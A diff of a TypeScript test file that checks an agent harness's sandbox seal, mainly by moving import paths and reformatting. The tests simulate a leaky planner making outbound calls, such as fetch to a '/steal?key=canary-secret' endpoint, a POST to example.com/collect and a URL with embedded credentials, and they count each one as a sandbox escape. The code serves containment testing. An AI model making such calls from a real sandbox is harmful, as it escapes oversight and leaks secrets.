@@ -2,8 +2,8 @@ import { createServer, get as httpGet, type Server } from 'node:http';
 import { request as httpsRequest } from 'node:https';
 import type { AddressInfo } from 'node:net';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
-import type { Planner } from '../../harness/planner/types.ts';
-import { seal } from '../../harness/sandbox/seal.ts';
+import type { Planner } from '../../harness/core/planner.ts';
+import { seal } from '../../harness/engine/sandbox/seal.ts';
 import { EMAIL_YAML, call, runDecisions, runPlanner, scenarioFrom } from '../helpers/run.ts';
 
 const scenario = scenarioFrom(EMAIL_YAML);
@@ -28,7 +28,9 @@ afterAll(async () => {
   await new Promise((r) => server.close(r));
 });
 
-function nodeRequest(fn: (cb: () => void) => { on(e: 'error', f: () => void): unknown; end?: () => void }): Promise<string> {
+function nodeRequest(
+  fn: (cb: () => void) => { on(e: 'error', f: () => void): unknown; end?: () => void },
+): Promise<string> {
   return new Promise((resolve) => {
     const req = fn(() => resolve('answered'));
     req.on('error', () => resolve('failed'));
@@ -52,12 +54,24 @@ function leaky(request: () => Promise<string>, seen: string[]): Planner {
 
 describe('the seal', () => {
   const cases: [string, () => Promise<string>][] = [
-    ['fetch to a public API', () => fetch('https://api.mailgun.example/v3/messages', { method: 'POST' }).then(() => 'answered')],
-    ['fetch to a URL shaped like a static asset', () => fetch('https://cdn.example.com/app/data.json').then(() => 'answered')],
-    ['fetch to a script under node_modules', () => fetch('http://example.com/node_modules/x/index.js').then(() => 'answered')],
+    [
+      'fetch to a public API',
+      () => fetch('https://api.mailgun.example/v3/messages', { method: 'POST' }).then(() => 'answered'),
+    ],
+    [
+      'fetch to a URL shaped like a static asset',
+      () => fetch('https://cdn.example.com/app/data.json').then(() => 'answered'),
+    ],
+    [
+      'fetch to a script under node_modules',
+      () => fetch('http://example.com/node_modules/x/index.js').then(() => 'answered'),
+    ],
     ['fetch to a loopback server', () => fetch(`${origin}/steal?key=canary-secret`).then(() => 'answered')],
     ['node:http to a loopback server', () => nodeRequest((cb) => httpGet(`${origin}/x`, cb))],
-    ['node:https to a public host', () => nodeRequest((cb) => httpsRequest('https://example.com/collect', { method: 'POST' }, cb))],
+    [
+      'node:https to a public host',
+      () => nodeRequest((cb) => httpsRequest('https://example.com/collect', { method: 'POST' }, cb)),
+    ],
   ];
 
   it.each(cases)('blocks %s and counts it as a sandbox escape on the run', async (_name, request) => {
@@ -88,7 +102,11 @@ describe('the seal', () => {
   ];
   it.each(shapes)('blocks %s', async (url) => {
     const seen: string[] = [];
-    const r = await runPlanner(scenario, leaky(() => fetch(url).then(() => 'answered'), seen), { transport: 'msw' });
+    const r = await runPlanner(
+      scenario,
+      leaky(() => fetch(url).then(() => 'answered'), seen),
+      { transport: 'msw' },
+    );
     expect(seen).toEqual(['failed']);
     expect(r.sandbox_escapes).toBe(1);
     const e = r.events.find((x) => x.type === 'escape');
@@ -97,25 +115,36 @@ describe('the seal', () => {
 
   it('blocks node:http to a URL with credentials and records it without them', async () => {
     const seen: string[] = [];
-    const r = await runPlanner(scenario, leaky(() => nodeRequest((cb) => httpGet('http://user:hunter2@internal.example.com/x', cb)), seen), { transport: 'msw' });
+    const r = await runPlanner(
+      scenario,
+      leaky(() => nodeRequest((cb) => httpGet('http://user:hunter2@internal.example.com/x', cb)), seen),
+      { transport: 'msw' },
+    );
     expect(seen).toEqual(['failed']);
     expect(r.sandbox_escapes).toBe(1);
     expect(JSON.stringify(r.events)).not.toContain('hunter2');
   });
 
   it("refuses a direct call to the run's own tool host without the harness's token", async () => {
-    const { Sandbox } = await import('../../harness/sandbox/sandbox.ts');
-    const { mswTransport } = await import('../../harness/sandbox/transport.ts');
+    const { Sandbox } = await import('../../harness/engine/sandbox/sandbox.ts');
+    const { mswTransport } = await import('../../harness/engine/sandbox/transport.ts');
     const escapes: unknown[] = [];
     const t = mswTransport(new Sandbox(scenario, 1), 'direct', (e) => escapes.push(e));
-    const res = await fetch(`http://${t.host}/tools/send_email`, { method: 'POST', body: JSON.stringify({ args: { to: 'x@y' } }) });
+    const res = await fetch(`http://${t.host}/tools/send_email`, {
+      method: 'POST',
+      body: JSON.stringify({ args: { to: 'x@y' } }),
+    });
     t.close();
     expect(res.status).toBe(403);
     expect(escapes).toHaveLength(1);
   });
 
   it('records the escaping URL without its query string (where secrets travel)', async () => {
-    const r = await runPlanner(scenario, leaky(() => fetch(`${origin}/steal?key=canary-secret`).then(() => 'answered'), []), { transport: 'msw' });
+    const r = await runPlanner(
+      scenario,
+      leaky(() => fetch(`${origin}/steal?key=canary-secret`).then(() => 'answered'), []),
+      { transport: 'msw' },
+    );
     const escape = r.events.find((e) => e.type === 'escape');
     expect(escape).toMatchObject({ type: 'escape', method: 'GET', url: `${origin}/steal` });
     expect(JSON.stringify(r.events)).not.toContain('canary-secret');
@@ -128,7 +157,9 @@ describe('the seal', () => {
   });
 
   it('serves tool calls over real HTTP through MSW', async () => {
-    const r = await runDecisions(scenario, [call('verify_recipient', { email: 'bob@acme.example' })], { transport: 'msw' });
+    const r = await runDecisions(scenario, [call('verify_recipient', { email: 'bob@acme.example' })], {
+      transport: 'msw',
+    });
     expect(r.sandbox_escapes).toBe(0);
     expect(r.steps).toBe(1);
   });
@@ -137,10 +168,20 @@ describe('the seal', () => {
 describe('transports', () => {
   it('give identical records over MSW and in process', async () => {
     const withFault = scenarioFrom(
-      EMAIL_YAML.replace('    latency_ms: 120', '    latency_ms: 120\n    faults: [ { on_call: 1, status: 504, applied: true } ]'),
+      EMAIL_YAML.replace(
+        '    latency_ms: 120',
+        '    latency_ms: 120\n    faults: [ { on_call: 1, status: 504, applied: true } ]',
+      ),
     );
     const decisions = [
-      { type: 'batch' as const, calls: [{ tool: 'verify_recipient', args: { email: 'bob@acme.example' } }, { tool: 'request_approval', args: { action: 'send_email' } }, { tool: 'create_invoice', args: { customer: 'acme', amount: 1200 } }] },
+      {
+        type: 'batch' as const,
+        calls: [
+          { tool: 'verify_recipient', args: { email: 'bob@acme.example' } },
+          { tool: 'request_approval', args: { action: 'send_email' } },
+          { tool: 'create_invoice', args: { customer: 'acme', amount: 1200 } },
+        ],
+      },
       call('send_email', { to: 'bob@acme.example' }),
       call('get_email_status', { to: 'bob@acme.example' }),
       call('purge_inactive'),
